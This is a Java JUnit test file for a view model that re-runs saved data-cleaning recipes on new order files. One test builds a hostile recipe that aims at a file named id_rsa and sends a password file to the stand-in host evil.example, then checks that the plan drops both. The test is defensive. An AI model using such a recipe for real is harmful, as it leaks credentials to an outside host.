package clientele.analysis.data.ui.again;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import clientele.analysis.Analyses;
import clientele.analysis.data.bring.ImportFile;
import clientele.analysis.data.rows.DropDuplicates;
import clientele.ledger.Operation;
import clientele.ledger.Recipe;
import clientele.ui.TrialContext;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.function.BooleanSupplier;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class AgainViewModelTest {
  @TempDir Path folder;
  private final TrialContext context = TrialContext.plain(Analyses.discover().operations());
  private AgainViewModel model;

  @BeforeEach
  void firstMonth() throws IOException {
    perform(ImportFile.of(orders("orders.csv", 1, "amount")));
    perform(new DropDuplicates("orders", List.of()));
    model = new AgainViewModel(context);
  }

  @AfterEach
  void close() {
    context.close();
  }

  private void perform(Operation operation) {
    context.ledger().performHere(operation, Optional.empty(), (done, words) -> {});
  }

  private Path orders(String name, int month, String amount) throws IOException {
    StringBuilder lines = new StringBuilder("order_id,customer_id,date," + amount + "\n");
    for (int i = 0; i < 20; i++) {
      lines.append(String.format("%d%03d,K%02d,2025-%02d-%02d,%d.50\n", month, i, i % 9, month, 1 + i, 10 + i));
    }
    return Files.writeString(folder.resolve(name), lines);
  }

  private static void until(BooleanSupplier holds) {
    for (int i = 0; i < 1_000 && !holds.getAsBoolean(); i++) {
      java.util.concurrent.locks.LockSupport.parkNanos(10_000_000);
    }
    assertTrue(holds.getAsBoolean());
  }

  private long rows() {
    return context.study().getValue().outline().table("orders").orElseThrow().rows();
  }

  @Test
  void doesTheStepsAndEndsWhereOneSeesWhatChanged() throws IOException {
    model.add(List.of(orders("february.csv", 2, "amount")));
    until(() -> model.plan().size() == 2);
    assertEquals(Optional.of("orders"), model.files().getFirst().table());
    assertEquals(List.of(), model.files().getFirst().drift().orElseThrow().changes());
    model.run();
    until(() -> context.opened().contains("changes"));
    assertEquals(40, rows());
    assertTrue(model.files().isEmpty());
  }

  /** A table in place of the old one, without a column that a later step names: told before anything is done. */
  @Test
  void aStepWhoseColumnIsNotInTheNewFileStopsAllBeforeTheFirst() throws IOException {
    perform(context.operations().make("data.flag-outliers", java.util.Map.of("table", List.of("orders"), "columns", List.of("amount"))));
    long steps = context.ledger().head();
    model.go(Recipe.Into.REPLACE);
    model.add(List.of(orders("february.csv", 2, "amounts")));
    until(() -> !model.files().getFirst().drift().isEmpty());
    model.home(model.files().getFirst(), "orders");
    until(() -> model.plan().size() == 3);
    model.run();
    assertFalse(model.isRunning());
    assertEquals("RECIPE-COLUMNS", model.problem().orElseThrow().code().id());
    assertEquals(steps, context.ledger().head());
  }

  @Test
  void stopsAtAColumnThatIsGoneAndGoesOnWithAReason() throws IOException {
    model.add(List.of(orders("february.csv", 2, "note")));
    until(() -> !model.files().getFirst().drift().isEmpty());
    model.home(model.files().getFirst(), "orders");
    assertFalse(model.files().getFirst().drift().orElseThrow().changes().isEmpty());
    model.run();
    until(() -> !model.isRunning());
    assertEquals("DATA-COLUMN-GONE", model.problem().orElseThrow().code().id());
    assertTrue(model.isGuarded());
    assertEquals(20, rows());
    model.against("the client sends it later");
    until(() -> context.opened().contains("changes"));
    assertEquals(40, rows());
    assertEquals(Optional.of("the client sends it later"), context.maker("drift:orders").orElseThrow().override());
  }

  @Test
  void stopEndsAfterTheStepThatRuns() throws IOException {
    model.add(List.of(orders("february.csv", 2, "amount")));
    until(() -> model.plan().size() == 2);
    model.changes().addListener((p, before, after) -> {
      if (model.isRunning() && !model.isStopping()) {
        model.stop();
      }
    });
    model.run();
    until(() -> !model.isRunning());
    assertTrue(model.done() < 2);
    assertFalse(context.opened().contains("changes"));
  }

  @Test
  void showsWhatARecipeWantsToReadAndReadsWhatIsGiven() throws IOException {
    Path secret = Files.writeString(folder.resolve("id_rsa"), "order_id,customer_id,date,amount\n1,PRIVATE,2025-01-01,1\n");
    Path recipe = Files.writeString(folder.resolve("theirs.json"), ("{'steps':[{'op':'data.import','params':{'file':'" + secret
        + "','table':'orders','role':'transactions','password-file':'" + secret + "'}},"
        + "{'op':'data.import-query','params':{'system':'postgresql','host':'evil.example','database':'shop','query':'select 1','table':'q',"
        + "'passwordFile':'" + secret + "'}},{'op':'data.drop-duplicates','params':{'table':'orders'}}]}").replace('\'', '"'));
    model.takeRecipe(recipe);
    assertEquals(List.of("id_rsa", "shop"), model.wanted().stream().map(clientele.analysis.data.again.RecipeSources.Wanted::name).toList());
    assertEquals(List.of(), model.plan());
    Path mine = orders("february.csv", 2, "amount");
    model.add(List.of(mine));
    until(() -> model.plan().size() == 2);
    assertEquals(Optional.of(mine), model.given(model.wanted().getFirst()).map(AgainViewModel.NewFile::path));
    assertEquals(Optional.empty(), model.given(model.wanted().getLast()));
    String plan = clientele.study.Json.write(model.plan());
    assertFalse(plan.contains("id_rsa") || plan.contains("evil"), plan);
    Path unknown = Files.writeString(folder.resolve("odd.json"), "{\"steps\":[{\"op\":\"study.load-bundle\",\"params\":{\"file\":\"x.zip\"}}]}");
    model.take(AgainViewModel.Source.CLEANING);
    model.takeRecipe(unknown);
    assertEquals("OP-UNKNOWN", model.problem().orElseThrow().code().id());
  }

  @Test
  void takesASavedRecipeAndSaysWhatIsNone() throws IOException {
    Path bad = Files.writeString(folder.resolve("bad.json"), "[]");
    model.takeRecipe(bad);
    assertEquals("RECIPE-FORM", model.problem().orElseThrow().code().id());
    model.takeRecipe(folder.resolve("none.json"));
    assertEquals("DATA-NO-RECIPE", model.problem().orElseThrow().code().id());
    Path saved = Files.writeString(folder.resolve("monthly.json"), Recipe.of(context.path(), context.operations()).write());
    model.takeRecipe(saved);
    assertEquals(Optional.empty(), model.problem());
    assertEquals(List.of("orders"), model.tables());
    model.go(Recipe.Into.REPLACE);
    model.add(List.of(orders("february.csv", 2, "amount")));
    until(() -> model.plan().size() == 2);
    model.run();
    until(() -> context.opened().contains("changes"));
    assertEquals(20, rows());
  }
}
